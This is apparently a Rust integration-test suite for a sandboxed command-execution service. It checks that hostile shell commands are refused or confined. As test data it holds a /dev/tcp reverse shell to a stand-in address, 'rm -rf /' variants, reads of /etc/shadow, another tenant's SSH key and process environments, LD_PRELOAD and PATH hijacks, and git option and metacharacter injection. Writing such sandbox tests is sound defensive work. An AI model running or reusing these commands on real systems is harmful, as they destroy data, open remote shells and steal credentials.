//! Commands, and what they may see and reach.

use pretty_assertions::assert_eq;
use serde_json::json;

use super::{CANARY, canary};
use crate::service::test_environment::{Client, Service, new_id};

#[test]
fn what_a_command_starts_stays_behind_the_walls() {
    let service = Service::start();
    let client = service.client();
    let outside = canary(&service);
    let evil = format!("cat {outside}/hostname; echo x > {outside}/f; id -u");
    client.write("evil.sh", &evil).expect(200);
    client.write("evil.mk", "all:\n\t@sh evil.sh\n").expect(200);
    client.run("touch a b");
    for (case, line) in [
        ("H-01", "bash -c 'sh evil.sh'"),
        ("H-01", "sh evil.sh"),
        ("H-01", "env sh evil.sh"),
        ("H-01", "timeout 5 sh evil.sh"),
        ("H-02", "python3 -c '__import__(\"os\").system(\"sh evil.sh\")'"),
        (
            "H-02",
            "node -e 'console.log(require(\"child_process\").spawnSync(\"sh\", [\"evil.sh\"]).stdout + \"\")'",
        ),
        ("H-07", "find a -exec sh evil.sh {} +"),
        ("H-07", "echo evil.sh | xargs sh"),
        ("H-08", "awk 'BEGIN{system(\"sh evil.sh\")}'"),
        ("H-08", "sed '1e sh evil.sh' evil.mk"),
        ("H-08", "tar cf x --checkpoint=1 --checkpoint-action=exec='sh evil.sh' a b"),
        ("H-08", "make -sf evil.mk"),
        ("H-10", "bash -c $'s\\x68 evil.s\\x68'"),
    ] {
        let reply = client.exec(line);
        if reply.status != 200 {
            reply.is(403, "E_COMMAND_REFUSED");
            continue;
        }
        let done = reply.json();
        let said = format!("{}{}", done["stdout"], done["stderr"]);
        assert!(!said.contains(CANARY), "{case} {line}: {said}");
        // It ran, and as nobody in particular.
        let users: Vec<_> = done["stdout"].as_str().unwrap().split_whitespace().collect();
        assert!(
            users.contains(&"1000") || case == "H-08" || case == "H-02",
            "{case} {line}: {done}"
        );
        assert!(!users.contains(&"0"), "{case} {line}: {done}");
    }
    assert!(!std::path::Path::new(&format!("{outside}/f")).exists(), "something wrote outside");
}

#[test]
fn what_is_not_allowed_is_refused_in_every_spelling() {
    let service = Service::start();
    let client = service.client();
    for (case, line) in [
        ("H-01", "env -S 'sh -c id'"),
        ("H-01", "timeout 5 /opt/evil"),
        ("H-03", "echo $(/opt/evil) ; true"),
        ("H-04", "A=$(/opt/evil);true"),
        ("H-05", "ls > x & /opt/evil"),
        ("H-05", "true < x & /opt/evil"),
        ("H-06", "true < <(/opt/evil)"),
        ("H-07", "find / -delete"),
        ("H-10", "bash -c $'sud\\x6f id'"),
        ("H-11", "rm -fr /"),
        ("H-11", "rm -r -f /"),
        ("H-11", "rm -rf -- /"),
        ("H-11", "rm -Rf /etc"),
        ("H-11", "rm -rf /workspaces"),
        ("H-12", "chmod 0777 x"),
        ("H-12", "chmod a+rwx x"),
        ("H-12", "chmod -R 777 x"),
        ("H-13", "bash -c 'bash -i >& /dev/tcp/198.51.100.7/9 0>&1'"),
        ("H-14", "PATH=/tmp/e:$PATH ls;true"),
        ("H-14", "LD_PRELOAD=./e.so ls;true"),
    ] {
        let reply = client.exec(line);
        assert_eq!(
            (case, reply.refused()),
            (case, (403, "E_COMMAND_REFUSED".to_owned())),
            "{line}"
        );
        // A step is held to the same rules.
        let task = client.done(&json!([{ "action": "shell", "command": line }]));
        assert_eq!(task["status"], "failed", "{case} {line}: {task}");
        assert_eq!(task["result"]["steps"][0]["code"], "E_COMMAND_REFUSED", "{case} {line}");
    }
}

#[test]
fn git_is_operations_and_words() {
    let service = Service::start();
    let client = service.client();
    client.run("git init -q . && git config user.email a@b && git config user.name n && touch f && git add f && git commit -qm one");
    client.write("evil.sh", "touch pwned").expect(200);
    for (case, body) in [
        ("H-09", json!({ "operation": "fetch", "args": ["-c", "core.sshCommand=id"] })),
        ("H-09", json!({ "operation": "log", "args": ["-c", "alias.x=!id"] })),
        ("H-32", json!({ "operation": "push", "args": "origin main;rm -rf x" })),
        ("H-33", json!({ "operation": "fetch", "args": "--upload-pack=./evil.sh origin" })),
        ("H-34", json!({ "operation": "diff", "args": "--no-index /dev/null /etc/hostname" })),
        ("H-34", json!({ "operation": "diff", "args": ["--output=/tmp/x"] })),
        ("H-34", json!({ "operation": "diff", "args": ["--output=../x"] })),
    ] {
        let reply = client.post(&client.at("/git"), &body);
        assert_eq!((case, reply.refused()), (case, (403, "E_GIT_REFUSED".to_owned())), "{body}");
    }
    // H-32: what a shell would take apart is a word.
    for args in
        ["; touch pwned", "$(touch pwned)", "&& touch pwned", "| touch pwned", "`touch pwned`"]
    {
        let reply =
            client.post(&client.at("/git"), &json!({ "operation": "status", "args": args }));
        assert!(matches!(reply.status, 200 | 403 | 422), "{args}: {reply:?}");
    }
    // H-09 through a shell runs behind the sandbox.
    assert!(client.exec("git -c alias.x='!id -u' x").json()["stdout"] != "0\n");
    client.read("pwned").is(404, "E_NOT_FOUND");
}

#[test]
fn no_command_reaches_a_server_of_this_machine() {
    let service = Service::start();
    let client = service.client();
    let address = service.address;
    // H-19, H-20, H-13: the API itself stands for everything that listens here.
    for line in [
        format!("curl -sS --max-time 5 http://{address}/healthz"),
        format!("curl -sS --max-time 5 telnet://{address}"),
        format!(
            "python3 -c 'import socket; socket.create_connection((\"{}\", {}), 5); print(\"in\")'",
            address.ip(),
            address.port()
        ),
        format!("bash -c 'exec 3<>/dev/tc\"\"p/{}/{} && echo in'", address.ip(), address.port()),
    ] {
        let reply = client.exec(&line);
        if reply.status == 200 {
            let done = reply.json();
            assert!(done["exit_code"] != 0 && done["stdout"] == "", "{line}: {done}");
        } else {
            reply.is(403, "E_COMMAND_REFUSED");
        }
    }
    // The workspace's own network is its own, too.
    let wide = service.client_for(&client.workspace, "read,write,exec,net");
    let line = format!("curl -sS --max-time 5 http://{address}/healthz");
    let body = json!({ "command": line, "network": "loopback" });
    assert_eq!(wide.post(&wide.at("/exec"), &body).expect(200)["stdout"], "");
    client.post(&client.at("/exec"), &body).is(403, "E_FORBIDDEN");
}

#[test]
fn a_command_sees_its_own_workspace_and_nothing_else() {
    let service =
        Service::start_with(&[("CARREL_TOKEN_SECRET", "canary-5e1f-canary-5e1f-canary-5e1f")]);
    let token = |workspace: &str| {
        let mut command = service.test_env.carrel();
        command.env("CARREL_TOKEN_SECRET", "canary-5e1f-canary-5e1f-canary-5e1f");
        command
            .args(["token", "new", "--id", workspace, "--data"])
            .arg(service.test_env.path("data"));
        String::from_utf8(command.output().unwrap().stdout).unwrap().trim().to_owned()
    };
    let client = |workspace: String| Client {
        address: service.address,
        token: Some(token(&workspace)),
        workspace,
    };
    let (mine, theirs) = (client(new_id()), client(new_id()));
    theirs.write("secret", CANARY).expect(200);
    theirs.run("mkdir -p .ssh && cp secret .ssh/id_ed25519");
    mine.run("true");
    let root = service.test_env.path("data").join("workspaces");
    let other = root.join(&theirs.workspace).display().to_string();
    assert!(std::path::Path::new(&other).join("secret").exists());
    let data = service.test_env.path("data").display().to_string();
    let program = env!("CARGO_BIN_EXE_carrel");
    for (case, line) in [
        ("H-15", "cat /etc/shado?".to_owned()),
        ("H-16", format!("cat {other}/.ssh/id_ed25519")),
        ("H-16", format!("cat {other}/secret")),
        ("H-16", format!("cp -r ../{} copy", theirs.workspace)),
        ("H-16", format!("cat {data}/carrel.db {data}/serve.lock")),
        ("H-17", format!("ls > {other}/f")),
        ("H-17", format!("echo x | tee {other}/f")),
        ("H-17", format!("find . -fprintf {other}/f x")),
        ("H-18", "cat /proc/1/environ".to_owned()),
        ("H-18", "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep CARREL".to_owned()),
        ("H-21", "kill -9 -1".to_owned()),
        ("H-21", format!("kill -9 {}", service.server.pid())),
        ("H-22", format!("cp /bin/true {program}")),
        ("H-22", "touch /usr/bin/evil".to_owned()),
    ] {
        let reply = mine.exec(&line);
        if reply.status != 200 {
            reply.is(403, "E_COMMAND_REFUSED");
            continue;
        }
        let done = reply.json();
        assert!(done["exit_code"] != 0, "{case} {line}: {done}");
        assert!(!done["stdout"].to_string().contains(CANARY), "{case} {line}: {done}");
    }
    mine.read("copy/secret").is(404, "E_NOT_FOUND");
    theirs.read("f").is(404, "E_NOT_FOUND");
    // H-15: the list of users is one of the sandbox.
    let users = mine.run("cat /etc/pass?d | cat");
    assert!(users.contains("carrel") && users.lines().count() < 10, "{users}");
    // H-21: the server and the other tenant are as they were.
    assert_eq!(theirs.run("cat secret"), CANARY);
    assert!(!mine.run("env").contains(CANARY));
}
